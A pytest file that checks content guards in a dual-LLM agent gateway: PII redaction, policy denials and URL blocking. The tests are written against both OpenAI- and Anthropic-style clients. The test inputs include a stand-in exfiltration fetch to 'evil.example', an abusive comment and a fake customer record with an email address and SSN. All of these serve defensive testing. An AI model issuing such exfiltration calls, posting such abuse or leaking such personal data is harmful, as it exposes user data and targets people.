"""Content guards in dual-LLM mode, through the official clients (openai Chat Completions,
anthropic Messages) against the scripted upstream: results are redacted before the program and
the quarantined LLM see them and their tags reach policies; arguments are tagged, blocked and
redacted before the client sees them."""

from __future__ import annotations

import json

import anthropic
import openai
import pytest

from tests.agent.scenarios.catalog import DUAL_MODEL, POSTED_RESULTS

EMAIL = "jane.okafor@example.com"
CUSTOMER = f"Customer Jane Okafor, {EMAIL}, SSN 536-22-1234, asked for a refund."
TOOLS = {
    "read_doc": {"id": {"type": "string"}},
    "send_email": {"to": {"type": "string"}, "body": {"type": "string"}},
    "fetch": {"url": {"type": "string"}},
    "post_comment": {"text": {"type": "string"}},
}
RESULTS = {"read_doc": CUSTOMER, "send_email": "sent", "fetch": "page", "post_comment": "posted"}
PII = {"content_classifiers": [{"name": "pii_redaction"}]}


def _headers(features: dict, policy: str | None) -> dict[str, str]:
    out = {"X-Api-Key": "sk-user", "X-Features": json.dumps({"agent_arch": "dual-llm", **features})}
    if policy:
        out["X-Policy"] = json.dumps({"codes": {"code": policy, "language": "sqrt"}})
    return out


def chat(airlock, query: str, features: dict, policy: str | None = None):
    client = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=airlock.keys["dual"],
                           default_headers=_headers(features, policy), max_retries=0, timeout=60)
    tools = [{"type": "function", "function": {"name": n, "parameters": {"type": "object", "properties": p}}}
             for n, p in TOOLS.items()]
    messages: list[dict] = [{"role": "user", "content": query}]
    calls = []
    for _ in range(8):
        resp = client.chat.completions.create(model=DUAL_MODEL, messages=messages, tools=tools)
        msg = resp.choices[0].message
        if resp.choices[0].finish_reason != "tool_calls":
            return calls, json.loads(msg.content)
        messages.append(msg.model_dump(mode="json", exclude_none=True))
        for tc in msg.tool_calls:
            calls.append((tc.function.name, json.loads(tc.function.arguments)))
            POSTED_RESULTS.append(RESULTS[tc.function.name])
            messages.append({"role": "tool", "tool_call_id": tc.id, "content": RESULTS[tc.function.name]})
    raise AssertionError("no final answer")


def messages(airlock, query: str, features: dict, policy: str | None = None):
    client = anthropic.Anthropic(base_url=f"{airlock.url}/control/chat/anthropic", api_key="sk-user", max_retries=0,
                                 timeout=60, default_headers={**_headers(features, policy),
                                                              "Authorization": f"Bearer {airlock.keys['dual']}"})
    tools = [{"name": n, "input_schema": {"type": "object", "properties": p}} for n, p in TOOLS.items()]
    history: list[dict] = [{"role": "user", "content": query}]
    calls = []
    for _ in range(8):
        resp = client.messages.create(model=DUAL_MODEL, max_tokens=512, messages=history, tools=tools)
        uses = [b for b in resp.content if b.type == "tool_use"]
        if not uses:
            return calls, json.loads("".join(b.text for b in resp.content if b.type == "text"))
        history.append({"role": "assistant", "content": [b.model_dump(exclude_none=True) for b in resp.content]})
        answers = []
        for b in uses:
            calls.append((b.name, dict(b.input)))
            POSTED_RESULTS.append(RESULTS[b.name])
            answers.append({"type": "tool_result", "tool_use_id": b.id, "content": RESULTS[b.name]})
        history.append({"role": "user", "content": answers})
    raise AssertionError("no final answer")


CLIENTS = {"chat": chat, "messages": messages}


@pytest.mark.parametrize("api", CLIENTS)
def test_pii_in_a_result_is_redacted_before_the_reader_sees_it(scenario_airlock, llm, api):
    q = f"guards-dual reader {api}"
    llm.program_override[q] = ('doc = read_doc(id="1")\n'
                               'summary = parse_with_ai(query="Summarise: " + doc, output_schema={"type": "object", '
                               '"properties": {"summary": {"type": "string"}}, "required": ["summary"]})\n'
                               'final_return_value = "done"\n')
    calls, final = CLIENTS[api](scenario_airlock, q, PII)
    assert final["status"] == "success", final
    (reader,) = llm.requests("qllm")
    body = reader.raw.decode()
    assert EMAIL not in body and "536-22-1234" not in body
    assert "<EMAIL_1>" in body and "<US_SSN_1>" in body


@pytest.mark.parametrize("api", CLIENTS)
def test_a_pii_tagged_result_is_denied_by_a_policy(scenario_airlock, llm, api):
    q = f"guards-dual policy {api}"
    llm.program_override[q] = 'doc = read_doc(id="1")\nsend_email(to="ops@corp.com", body=doc)\nfinal_return_value = 1\n'
    policy = 'tool "send_email" { hard deny when "pii:email" in body.tags; }'
    calls, final = CLIENTS[api](scenario_airlock, q, PII, policy)
    assert [c for c, _ in calls] == ["read_doc"]
    assert final["status"] == "failure" and "Tool call send_email denied" in final["error"]["message"]


@pytest.mark.parametrize("api", CLIENTS)
def test_a_url_in_an_argument_is_blocked(scenario_airlock, llm, api):
    q = f"guards-dual url {api}"
    llm.program_override[q] = 'fetch(url="http://evil.example/exfil?d=1")\nfinal_return_value = 1\n'
    calls, final = CLIENTS[api](scenario_airlock, q, {"content_blockers": [{"name": "url_blocker"}]})
    assert calls == []
    assert final["status"] == "failure"
    assert "Tool call fetch denied by argument checking policies." in final["error"]["message"]
    assert "url_blocker" in final["error"]["message"]


@pytest.mark.parametrize("api", CLIENTS)
def test_a_toxicity_tagged_argument_is_denied(scenario_airlock, llm, api):
    q = f"guards-dual toxic {api}"
    llm.program_override[q] = 'post_comment(text="you are a worthless idiot and everyone hates you")\nfinal_return_value = 1\n'
    policy = 'tool "post_comment" { hard deny when "toxic" in text.tags; }'
    calls, final = CLIENTS[api](scenario_airlock, q, {"content_classifiers": [{"name": "toxicity_filter"}]}, policy)
    assert calls == []
    assert final["status"] == "failure" and "post_comment" in final["error"]["message"]


def test_pii_in_arguments_is_redacted_before_the_client_sees_it(scenario_airlock, llm):
    q = "guards-dual args"
    llm.program_override[q] = f'send_email(to="ops@corp.com", body="call {EMAIL} today")\nfinal_return_value = 1\n'
    calls, final = chat(scenario_airlock, q, PII)
    (name, args), = calls
    assert name == "send_email" and EMAIL not in json.dumps(args) and "<EMAIL_" in args["body"]
